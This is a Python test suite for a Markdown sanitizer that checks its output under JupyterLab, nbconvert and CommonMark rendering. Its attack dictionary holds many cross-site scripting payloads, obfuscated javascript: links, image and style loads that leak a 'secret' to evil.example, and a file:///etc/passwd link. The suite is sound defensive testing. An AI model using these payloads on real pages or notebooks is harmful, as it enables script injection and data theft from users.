"""Model texts that try to run script, load something, or hide something, one trick each.

Each is shown as JupyterLab does (its mathematics pass around a Markdown parser with raw HTML on and
bare links), as nbconvert does, and by a plain CommonMark parser; what comes out is read as HTML.
"""

import re
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from or_cache_magic.display.markdown import safe_markdown

X = "<img src=x onerror=alert(1)>"

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "image_handler": X,
    "svg_onload": "<svg/onload=alert(1)>",
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "closing_tag_first": "</p><script>alert(1)</script>",
    "comment": f"<!-- --> {X} <!-->",
    "processing_instruction": "<?php <script>alert(1)</script> ?>",
    "declaration": "<!DOCTYPE html><script>alert(1)</script>",
    "cdata": f"<![CDATA[ ]]>{X}",
    "upper_case": "<ScRiPt>alert(1)</sCrIpT>",
    "tag_over_lines": "<img\nsrc=x\nonerror=alert(1)\n>",
    "slashes": "<img/src=x/onerror=alert(1)>",
    "in_heading": f"# {X}",
    "in_list": f"- a\n- {X}",
    "in_quote": f"> {X}",
    "in_table": f"| a | b |\n|---|---|\n| {X} | `x` |",
    "in_link_text": f"[{X}](https://example.org)",
    "in_link_title": f'[a](https://example.org "\'>{X}")',
    "style_import": "<style>@import 'https://evil.example/x.css'</style>",
    "style_attribute": '<b style="background:url(https://evil.example/x)">b</b>',
    "details_ontoggle": "<details open ontoggle=alert(1)>",
    "form": "<form action=https://evil.example><input name=q><button>go</button></form>",
    "meta_refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "base": "<base href=https://evil.example/>",
    "object": "<object data=javascript:alert(1)></object>",
    "remote_image": "![q](https://evil.example/?q=secret)",
    "remote_image_reference": "![q][r]\n\n[r]: https://evil.example/?q=secret",
    "remote_image_shortcut": "![r]\n\n[r]: https://evil.example/?q=secret",
    "remote_image_in_link": "[![q](https://evil.example/x.png)](https://example.org)",
    "remote_image_with_code": "![`q`](https://evil.example/x.png)",
    "remote_image_escaped_bang": "\\\\![q](https://evil.example/x.png)",
    "remote_image_after_bang": "!![q](https://evil.example/x.png)",
    "remote_image_from_autolink": "!<https://evil.example/x.png>",
    "math_in_bare_url_braces_paired": 'https://example.org/$a{$"onmouseover=alert(1)//}$b$',
    "data_image": "![q](data:image/svg+xml;base64,PHN2Zz4=)",
    "javascript_link": "[a](javascript:alert(1))",
    "javascript_case": "[a](JaVaScRiPt:alert(1))",
    "javascript_space": "[a]( javascript:alert(1))",
    "javascript_newline": "[a](\njavascript:alert(1))",
    "javascript_angle": "[a](<javascript:alert(1)>)",
    "javascript_angle_space": "[a](< javascript:alert(1)>)",
    "javascript_entity": "[a](&#106;avascript:alert(1))",
    "javascript_hex_entity": "[a](&#x6A;avascript&#x3a;alert(1))",
    "javascript_colon_entity": "[a](javascript&colon;alert(1))",
    "javascript_tab_entity": "[a](java&Tab;script:alert(1))",
    "javascript_newline_entity": "[a](java&NewLine;script:alert(1))",
    "javascript_control": "[a](\x01javascript:alert(1))",
    "javascript_escaped_colon": "[a](javascript\\:alert(1))",
    "javascript_reference": "[a][r]\n\n[r]: javascript:alert(1)",
    "javascript_reference_next_line": "[a][r]\n\n[r]:\njavascript:alert(1)",
    "javascript_reference_entity": "[a][r]\n\n[r]: &#106;avascript:alert(1)",
    "javascript_reference_angle": "[a][r]\n\n[r]: < javascript:alert(1)>",
    "javascript_autolink": "<javascript:alert(1)>",
    "javascript_after_code": "[`a`](javascript:alert(1))",
    "vbscript_link": "[a](vbscript:msgbox)",
    "data_link": "[a](data:text/html,<script>alert(1)</script>)",
    "file_link": "[a](file:///etc/passwd)",
    "autolink_handler": "<https://example.org/onmouseover=alert(1)//>",
    "autolink_quote": '<https://example.org/"onmouseover=alert(1)//>',
    "unclosed_fence": f"```\ntext\n{X}",
    "fence_in_list": f"- ```\n  x\n  ```\n{X}",
    "fence_left_list": f"- ```\n\n```\nx\n```\n{X}\n```\n",
    "fence_left_list_direct": f"- ```\n```\n{X}\n```\n",
    "fence_left_quote": f"> ```\n> x\n```\n{X}\n```\n",
    "fence_one_space": f" ```\n```\n{X}\n```\n",
    "fence_closed_indented": f"```\nx\n   ```\n{X}\n```\n",
    "fence_closed_by_longer": f"```\nx\n`````\n{X}\n```\n",
    "fence_closer_trails_spaces": f"$ a\n```\n$ {X}\n``` \n",
    "fence_not_closed_by_tildes": f"```\n~~~\n```\n{X}\n",
    "fence_tildes": f"~~~~~ a`b\n~~~\n{X}\n~~~~~\n",
    "fence_info_handler": '```py$"onmouseover=alert(1)//$\nx\n```\n',
    "fence_info_tag": f"```py{X}\nx\n```\n",
    "fence_with_backtick_in_info": f"```a`b\n{X}\n```\n",
    "fence_after_carriage_return": f"a\r```\r{X}\r```\r{X}",
    "fence_after_line_separator": f"a\u2028```\n$\n```\n$ {X}\n```\n",
    "fence_in_deep_indent": f"      ```\n{X}\n      ```\n",
    "fence_in_footnote": f"[^1]: ```\n{X}\n```\n{X}",
    "fence_mixed_list": f"1. a\n   - ```\n   b\n   ```\n{X}\n```\n{X}\n",
    "fence_swallowed_by_dollars": f"$a\n```\n$\n{X}\n```\n",
    "fence_swallowed_by_environment": f"\\begin{{a}}\n```\n\\end{{a}}\n{X}\n```\n",
    "code_span_unclosed": f"`{X}",
    "code_span_uneven": f"``{X}` {X}",
    "code_span_escaped": f"\\`{X}`",
    "code_span_over_lines": f"`a\n{X}\n`",
    "code_span_pipe": f"| a |\n|---|\n| `x | {X}` |",
    "math_in_bare_url": 'https://example.org/$"onmouseover=alert(1)//$',
    "math_in_bare_url_display": 'https://example.org/$$"onmouseover=alert(1)//$$',
    "math_in_bare_url_environment": 'https://example.org/\\begin{a}"onmouseover=alert(1)//\\end{a}',
    "math_in_bare_url_latex": 'https://example.org/\\\\("onmouseover=alert(1)//\\\\)',
    "math_in_bare_url_code": 'https://example.org/`\\begin{a}"onmouseover=alert(1)//\\end{a}`',
    "math_in_bare_url_escapes": '\\\\$x https://example.org/$"onmouseover=alert(1)//$y$',
    "math_in_bare_url_braces": 'https://example.org/$a{$"onmouseover=alert(1)//}$',
    "math_in_bare_url_over_list": 'https://example.org/$"onmouseover=alert(1)//\n- ```\n  x\n  ```\n$',
    "math_in_bare_url_over_fence": 'https://example.org/$"onmouseover=alert(1)//\n```\n$\n```\n',
    "math_in_link_title": '[a](https://example.org "$" onmouseover=alert(1) "$")',
    "math_in_link": '[a](https://example.org/$"onmouseover=alert(1)//$)',
    "math_in_definition_title": '[a][r]\n\n[r]: https://example.org "$"onmouseover=alert(1) "$"',
    "math_side_by_side": 'https://example.org/\\(a\\)$$b$$"onmouseover=alert(1)//$$c$$',
    "math_with_tag": f"${X}$ and $${X}$$ and \\({X}\\)",
    "math_with_image": "$![q](https://evil.example/x.png)$",
    "math_href": "$\\href{javascript:alert(1)}{x}$",
    "math_href_bare_environment": "\\begin{a}\\href{javascript:alert(1)}{x}\\end{a}",
    "math_marker": f"$a$ @@0@@ {X}",
    "own_code_reused": f"<code>{X}</code>",
    "own_pre_unclosed": f"<pre><code>\n\n```\n{X}\n```\n",
    "own_pre_with_image": "a <pre><code>![q](https://evil.example/x.png)</code></pre>",
    "own_span_with_attribute": "<span onmouseover=alert(1)>&#36;</span>",
    "break_with_attribute": "<br onmouseover=alert(1)>",
    "null_in_tag": "<\x00img src=x onerror=alert(1)>",
    "definition_list": f"a\n: ```\n{X}\n```\n{X}",
    "myst_directive": f"```{{raw}} html\n{X}\n```\n",
}

TAGS = {
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "del",
    "s",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "hr",
    "br",
    "span",
    "sub",
    "sup",
    "div",
    "input",
}
ATTRIBUTES = {
    "href",
    "class",
    "title",
    "align",
    "start",
    "style",
    "type",
    "checked",
    "disabled",
    "id",
    "aria-label",
}
SPLIT = re.compile(
    r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|\\\\(?:\(|\)|\[|\]))", re.IGNORECASE
)


class Live(HTMLParser):
    """Collects what a browser would run, load, or follow to something other than a page."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.match(r"[^/?#]*:", re.sub(r"[\x00-\x20]", "", value or "").lower())
            if name not in ATTRIBUTES or (
                name == "href" and scheme and scheme[0] not in {"http:", "https:", "mailto:"}
            ):
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        self.found.append(("comment", data))

    def handle_decl(self, decl):
        self.found.append(("declaration", decl))

    handle_pi = unknown_decl = handle_decl


def live(html):
    parser = Live()
    parser.feed(html)
    parser.close()
    return parser.found


def jupyterlab(text):  # noqa: C901, PLR0912 - as it is there
    """JupyterLab's removeMath, a parser, replaceMath (packages/rendermime/src/latex.ts)."""
    math = []
    if "`" in text or "~~~" in text:
        text = text.replace("~", "~T")
        hide = lambda m: m[0].replace("$", "~D")  # noqa: E731
        text = re.sub(r"^(`{3,}|(?:~T){3,})[^`\n]*\n([\s\S]*?)^\1`*$", hide, text, flags=re.MULTILINE)
        text = re.sub(r"(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)", hide, text, flags=re.MULTILINE)
        show = lambda t: t.replace("~D", "$").replace("~T", "~")  # noqa: E731
    else:
        show = str
    blocks = SPLIT.split(text)
    start = end = last = None
    braces = 0

    def take(first, final):
        joined = "".join(blocks[first : final + 1])
        blocks[first : final + 1] = [f"@@{len(math)}@@"] + [""] * (final - first)
        math.append(show(joined.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")))

    for i in range(1, len(blocks), 2):
        block = blocks[i]
        if block.startswith("@"):
            blocks[i] = f"@@{len(math)}@@"
            math.append(block)
        elif start is not None:
            if block == end and braces:
                last = i
            elif block == end:
                take(start, i)
                start = end = last = None
            elif re.search(r"\n.*\n", block):
                if last is not None:
                    take(start, last)
                start = end = last = None
                braces = 0
            else:
                braces += {"{": 1, "}": -1 if braces else 0}.get(block, 0)
        elif block in {"$", "$$"}:
            start, end, braces = i, block, 0
        elif block in {"\\\\(", "\\\\["}:
            start, end, braces = i, {"(": "\\\\)", "[": "\\\\]"}[block[-1]], 0
        elif block[1:6] == "begin":
            start, end, braces = i, "\\end" + block[6:], 0
    if start is not None and last is not None:
        take(start, last)
    parse = mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough"])
    return re.sub(
        r"@@(\d+)@@", lambda m: math[int(m[1])] if int(m[1]) < len(math) else "", parse(show("".join(blocks)))
    )


def nbconvert(text):
    return markdown2html_mistune(text).replace("¶", "")


commonmark = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render
FRONT_ENDS = {"jupyterlab": jupyterlab, "nbconvert": nbconvert, "commonmark": commonmark}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_safe_markdown__leaves_nothing_live(text):
    """No front end gets a tag, attribute or target that runs or loads anything."""
    safe = safe_markdown(text)
    assert {name: live(show(safe)) for name, show in FRONT_ENDS.items()} == {name: [] for name in FRONT_ENDS}


def test_attacks__are_attacks():
    """Most of the texts are live somewhere when they are shown raw; else the test above says little."""
    raw = [name for name, text in ATTACKS.items() if any(live(show(text)) for show in FRONT_ENDS.values())]
    assert len(raw) >= 80


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_safe_markdown__is_safe_at_every_moment_of_a_stream(text):
    """A text cut anywhere is as safe as the whole."""
    for end in range(1, len(text), 5):
        safe = safe_markdown(text[:end])
        assert not live(jupyterlab(safe)), text[:end]


PIECES = [
    *(
        "<img src=x onerror=alert(1)>",
        "```",
        "~~~",
        "`",
        "``",
        "$",
        "$$",
        "\n",
        "\n",
        "\n\n",
        " ",
        "  ",
        "    ",
    ),
    *(
        "- ",
        "1. ",
        "> ",
        "\\",
        "\\\\(",
        "\\\\)",
        "\\[",
        "\\]",
        "\\(",
        "\\)",
        "\\begin{a}",
        "\\end{a}",
        "{",
        "}",
    ),
    *(
        '"onx=alert(1) ',
        "https://a.b/",
        "[a](",
        "javascript:x",
        ")",
        "![a](",
        "[r]:",
        "a",
        "|",
        "<br>",
        "<pre>",
    ),
    *(
        "<code>",
        "</code>",
        "<span>",
        "&#36;",
        "\t",
        "@@0@@",
        "````",
        "\u2028",
        ": ",
        "!",
        "](",
        "<https://a.b>",
    ),
]


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_safe_markdown__leaves_nothing_live_in_any_mix(text):
    """However the tricks are mixed, nothing live is left, the second time too."""
    safe = safe_markdown(text)
    for shown in (safe, safe_markdown(safe)):
        assert not any(live(show(shown)) for show in FRONT_ENDS.values())
